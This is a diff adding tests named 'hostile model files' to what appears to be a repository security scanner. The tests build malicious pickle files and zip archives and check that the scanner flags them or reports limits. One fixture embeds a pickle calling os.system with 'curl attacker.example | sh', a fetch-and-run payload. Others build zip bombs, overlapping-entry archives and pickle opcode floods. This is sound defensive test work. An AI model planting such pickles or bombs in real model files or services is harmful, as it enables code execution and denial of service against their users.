@@ -5,19 +5,22 @@
  * repository runs, caps are reported, and odd data is stored verbatim. See docs/RELIABILITY.md.
  */
 import { execFileSync, spawnSync } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
 import { hostname, tmpdir } from "node:os";
 import { join } from "node:path";
 import { lookup } from "node:dns/promises";
+import { deflateRawSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
 import { compileChecks, MAX_REGEX_LINE, regexMatches, splitLines, type CompiledRegex } from "../../lib/engine/match.ts";
 import { loadRulebook, parsePolicy, prefilterRegexes } from "../../lib/engine/rulebook.ts";
 import { DEFAULT_MAX_FILES, scanDirectory } from "../../lib/engine/scan.ts";
+import { syncCatalogue } from "../../lib/catalogue.ts";
 import { registerRepository } from "../../lib/repos/service.ts";
 import { enqueueScan } from "../../lib/scan/enqueue.ts";
 import { CHECKOUT_PREFIX, PermanentScanError, removeOrphanedCheckouts, runScan } from "../../lib/scan/pipeline.ts";
 import { scratch, TEST_POLICY } from "../helpers.ts";
 import { TestRepo } from "../support/git.ts";
+import { callPickle, PickleWriter, safetensors, zipArchive } from "../support/pickle-writer.ts";
 import { usePipelineTest } from "../support/pipeline.ts";
 
 const p = usePipelineTest("hostile");
@@ -357,5 +360,132 @@ describe("a worker killed mid-scan", () => {
     const other = mkdtempSync(join(root, "something-else-"));
     expect(await removeOrphanedCheckouts(root)).toEqual([orphan.split("/").pop()]);
     expect([existsSync(orphan), existsSync(mine), existsSync(other)]).toEqual([false, true, true]);
+  });
+});
+
+describe("hostile model files", () => {
+  const modelRules = scratch("posture-hostile-model-rules-");
+  modelRules.write("test.policy.yaml", TEST_POLICY);
+  modelRules.write("model-artifacts.policy.yaml", readFileSync(join(REAL_RULES, "ml-serving/model-artifacts.policy.yaml"), "utf8"));
+  const artifactChecks = loadRulebook(REAL_RULES).checks.filter((c) => c.policy === "Model artifacts carry no executable code");
+  const scanModels = (root: string, artifactLimits?: Parameters<typeof scanDirectory>[1]["artifactLimits"]) => scanDirectory(root, { checks: [...parsePolicy(TEST_POLICY, "t.yaml").checks, ...artifactChecks], artifactLimits });
+  const errorsOf = (r: Awaited<ReturnType<typeof scanModels>>) => r.errors.map((e) => [e.path, e.message]);
+  /** A deflate stream of `bytes` zeros, made a chunk at a time (never the whole buffer). */
+  const zeros = (bytes: number) => {
+    const d = deflateRawSync(Buffer.alloc(1024 * 1024));
+    // deflate streams do not concatenate; one of a big buffer is still only ~1/1000 of it
+    return bytes <= 1024 * 1024 ? d : deflateRawSync(Buffer.alloc(bytes));
+  };
+
+  it("a repository of them is cloned and scanned: the malicious model is stored as a finding, the bomb as an error", async () => {
+    const rulebook = loadRulebook(modelRules.root);
+    await syncCatalogue(t.db, rulebook);
+    const repo = new TestRepo(work.path("models"));
+    repo.write("app/a.py", EVAL);
+    repo.write("models/evil.pt", zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") }]));
+    // 64 MiB of zeros in a 64 KiB entry: its header is honest, its ratio gives it away before a byte is inflated
+    repo.write("models/bomb.pt", zipArchive([{ name: "archive/data.pkl", data: Buffer.alloc(0), declaredSize: 64 * 1024 ** 2, method: "deflate", compressed: zeros(64 * 1024 ** 2) }]));
+    repo.write("models/weights.safetensors", safetensors());
+    repo.write("models/big.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 9\n");
+    repo.commit("models");
+    const r = await registerRepository(t.db, { url: repo.dir, team: "red-team" }, true);
+    const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
+    const outcome = await runScan({ db: t.db, databaseUrl: t.url, rulebook, allowLocalRepos: true, workRoot: checkouts.root }, scan.id, { number: 1, max: 1 });
+    expect(outcome).toBe("succeeded");
+    const row = await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } });
+    const findings = await t.db.finding.findMany({ where: { repositoryId: r.id }, orderBy: [{ path: "asc" }] });
+    expect(findings.map((f) => [f.path, f.checkId, f.severity, f.line])).toEqual([
+      ["app/a.py", "test.python.eval", "high", 2],
+      ["models/evil.pt", "ml-serving.artifact.code-execution", "critical", 1],
+    ]);
+    expect(findings[1]!.message).toContain("os.system (in archive/data.pkl)");
+    expect(findings[1]!.context, "no lines are cut from a binary file").toBeNull();
+    expect(row.errors).toEqual([{ path: "models/bomb.pt", message: expect.stringMatching(/^not scanned: archive\/data\.pkl would inflate \d+ times \(64 MiB\), past the limit of 200; a zip bomb\?$/) }]);
+    expect((row.stats as { artifacts: unknown }).artifacts).toMatchObject({ files: 3, safe: 1, formats: { "torch-zip": 2, safetensors: 1 } });
+    expect((row.stats as { skipped: Record<string, number> }).skipped["lfs-pointer"]).toBe(1);
+    expect(readdirSync(checkouts.root)).toEqual([]);
+  });
+
+  it("a zip entry that inflates past the size its header declares is stopped there", async () => {
+    const dir = scratch("posture-hostile-lying-zip-");
+    // a pickle that opens with an 8 GiB BINBYTES8: the reader skips the bytes, the archive's size check stops them
+    const head = new PickleWriter().proto(4).raw(0x8e, Buffer.from([0, 0, 0, 0, 2, 0, 0, 0])).bytes();
+    dir.write("m/lying.pt", zipArchive([{ name: "archive/data.pkl", data: head, declaredSize: 4096, method: "deflate", compressed: deflateRawSync(Buffer.concat([head, Buffer.alloc(32 * 1024 ** 2)])) }]));
+    dir.write("m/evil.pkl", callPickle("os", "system", "id"));
+    const before = process.memoryUsage().rss;
+    const r = await scanModels(dir.root);
+    expect(errorsOf(r)).toEqual([["m/lying.pt", expect.stringMatching(/^archive\/data\.pkl: not fully scanned: too many bytes in the stream/)]]);
+    expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
+    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
+  });
+
+  it("overlapping entries, a flood of entries and archives nested past the limit are each reported, and the scan goes on", async () => {
+    const dir = scratch("posture-hostile-zips-");
+    // one 4 MiB kernel, named by 500 central-directory entries: each would inflate 1000 times
+    const kernel = zipArchive([{ name: "k.pkl", data: Buffer.alloc(0), declaredSize: 4 * 1024 ** 2, method: "deflate", compressed: deflateRawSync(Buffer.alloc(4 * 1024 ** 2)) }]);
+    const cdAt = kernel.readUInt32LE(kernel.length - 6);
+    const cd = kernel.subarray(cdAt, kernel.length - 22);
+    const copies = Array.from({ length: 500 }, () => cd);
+    const end = Buffer.from(kernel.subarray(kernel.length - 22));
+    end.writeUInt16LE(500, 8);
+    end.writeUInt16LE(500, 10);
+    end.writeUInt32LE(cd.length * 500, 12);
+    dir.write("m/overlap.pt", Buffer.concat([kernel.subarray(0, cdAt), ...copies, end]));
+    dir.write("m/flood.npz", zipArchive(Array.from({ length: 10_050 }, (_, i) => ({ name: `a${i}.txt`, data: Buffer.from("x") }))));
+    let nested = zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "id") }]);
+    for (let i = 0; i < 5; i++) nested = zipArchive([{ name: `level${i}.pt`, data: nested, method: i % 2 ? "deflate" : "store" }]);
+    dir.write("m/nested.mar", nested);
+    dir.write("m/evil.pkl", callPickle("os", "system", "id"));
+    const r = await scanModels(dir.root);
+    const errors = errorsOf(r);
+    expect(errors.filter(([p]) => p === "m/overlap.pt")).toHaveLength(500);
+    expect(errors.find(([p]) => p === "m/overlap.pt")![1]).toMatch(/^not scanned: k\.pkl would inflate \d+ times \(4 MiB\), past the limit of 200; a zip bomb\?$/);
+    expect(errors).toContainEqual(["m/flood.npz", "not fully scanned: flood.npz has 10050 entries; the first 10000 were read"]);
+    expect(errors).toContainEqual(["m/nested.mar", "not scanned: level4.pt > level3.pt > level2.pt is an archive nested 3 deep, past the limit of 3"]);
+    expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
+  });
+
+  it("truncated pickles, at every length, never throw and keep what they imported", async () => {
+    const dir = scratch("posture-hostile-truncated-");
+    const full = callPickle("posix", "system", "id", 2);
+    for (let n = 1; n < full.length; n++) dir.write(`m/cut${String(n).padStart(2, "0")}.pkl`, full.subarray(0, n));
+    const r = await scanModels(dir.root);
+    expect(r.errors.every((e) => /^not fully scanned: pickle at byte 0: (truncated|.* is not a Python name)/.test(e.message))).toBe(true);
+    expect(r.errors).toHaveLength(full.length - 1);
+    // once GLOBAL's two lines are read, the import is reported however the file ends
+    const afterGlobal = "\x80\x02cposix\nsystem\n".length;
+    expect(r.findings.map((f) => f.path)).toEqual(Array.from({ length: full.length - afterGlobal }, (_, i) => `m/cut${String(afterGlobal + i).padStart(2, "0")}.pkl`));
+  });
+
+  it("an opcode flood is stopped at the stack limit, and a memo flood cannot hide an import", async () => {
+    const dir = scratch("posture-hostile-flood-");
+    dir.write("m/marks.pkl", Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(3_000_000, 0x28)]));
+    // 1.2 million memoised strings, then a STACK_GLOBAL of two that the memo limit did not keep
+    const w = new PickleWriter().proto(4);
+    for (let i = 0; i < 1_200_000; i++) w.shortUnicode(i === 1_100_000 ? "os" : i === 1_100_001 ? "system" : "x").memoize().pop();
+    w.raw(0x6a, Buffer.from(Uint32Array.of(1_100_000).buffer), 0x6a, Buffer.from(Uint32Array.of(1_100_001).buffer)).stackGlobal().stop();
+    dir.write("m/memo.pkl", w.bytes());
+    const before = process.memoryUsage().rss;
+    const started = performance.now();
+    const r = await scanModels(dir.root);
+    expect(errorsOf(r)).toEqual([["m/marks.pkl", "not fully scanned: the pickle at byte 0 grows its stack past 1000000 entries (an opcode flood); the rest was not read"]]);
+    expect(r.findings.map((f) => [f.path, f.ruleId])).toEqual([["m/memo.pkl", "ml-serving.artifact.computed-import"]]);
+    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
+    expect(performance.now() - started).toBeLessThan(20_000);
+  });
+
+  it("the per-file and per-scan read limits are reported, and files within them are still scanned", async () => {
+    const dir = scratch("posture-hostile-budget-");
+    const big = new PickleWriter().proto(4).raw(0x8e, Buffer.from([0, 0, 0x40, 0, 0, 0, 0, 0])).bytes(); // 4 MiB of bytes
+    dir.write("a/big.pkl", Buffer.concat([big, Buffer.alloc(4 * 1024 ** 2), callPickle("os", "system", "id").subarray(2)]));
+    dir.write("b/evil.pkl", callPickle("os", "system", "id"));
+    const perFile = await scanModels(dir.root, { maxFileBytes: 1024 ** 2 });
+    expect(errorsOf(perFile)).toEqual([["a/big.pkl", "not fully scanned: read 1 MiB of it, the limit for one file (decompressed)"]]);
+    expect(perFile.findings.map((f) => f.path)).toEqual(["b/evil.pkl"]);
+    const perScan = await scanModels(dir.root, { maxScanBytes: 2 * 1024 ** 2 });
+    expect(errorsOf(perScan)).toEqual([
+      ["a/big.pkl", "not fully scanned: the scan has read 2 MiB of model files, its limit"],
+      ["b/evil.pkl", "not fully scanned: the scan has read 2 MiB of model files, its limit"],
+    ]);
   });
 });
